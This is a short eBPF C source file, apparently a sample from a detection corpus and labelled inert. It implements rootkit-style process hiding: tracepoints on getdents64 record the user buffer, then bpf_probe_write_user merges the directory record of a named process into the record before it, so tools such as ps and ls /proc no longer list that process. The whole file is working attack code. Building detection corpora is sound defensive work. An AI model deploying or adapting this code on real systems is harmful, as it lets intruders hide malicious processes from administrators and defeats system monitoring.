/*
 * Backsight corpus sample: bpf/getdents-hide  (INERT - compiled only, never loaded)
 *
 * Written from the public description of eBPF process hiding: on entry to getdents64 the
 * user buffer's address is kept per thread; on exit the program walks the records the kernel
 * wrote, and when one is named like the hidden process it grows the previous record's d_reclen
 * over it with bpf_probe_write_user, so `ps` and `ls /proc` skip it.
 */
#include "../../src/bpfshape.h"

char LICENSE[] SEC("license") = "GPL";

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, u64);
	__type(value, u64);
} buffers SEC(".maps");

/* Set by the loader before the programs are attached. */
volatile const char hidden_name[8] = "31337";

SEC("tracepoint/syscalls/sys_enter_getdents64")
int remember_buffer(struct syscall_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 buffer = ctx->args[1];
	bpf_map_update_elem(&buffers, &id, &buffer, 0);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_getdents64")
int hide_entry(struct syscall_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *buffer = bpf_map_lookup_elem(&buffers, &id);
	if (!buffer || ctx->ret <= 0)
		return 0;
	u64 base = *buffer;
	long total = ctx->ret;
	long position = 0;
	unsigned short previous_length = 0;
	long previous = -1;
	for (int index = 0; index < 64 && position < total; index++) {
		struct linux_dirent64 *record = (void *)(base + position);
		unsigned short length = 0;
		char name[8] = {};
		bpf_probe_read_user(&length, sizeof(length), &record->d_reclen);
		bpf_probe_read_user_str(name, sizeof(name), record->d_name);
		int same = 1;
		for (int byte = 0; byte < 6; byte++) {
			if (name[byte] != hidden_name[byte]) { same = 0; break; }
			if (name[byte] == 0) break;
		}
		if (same && previous >= 0) {
			unsigned short grown = previous_length + length;
			struct linux_dirent64 *before = (void *)(base + previous);
			bpf_probe_write_user(&before->d_reclen, &grown, sizeof(grown));
			break;
		}
		previous = position;
		previous_length = length;
		if (length == 0) break;
		position += length;
	}
	bpf_map_delete_elem(&buffers, &id);
	return 0;
}
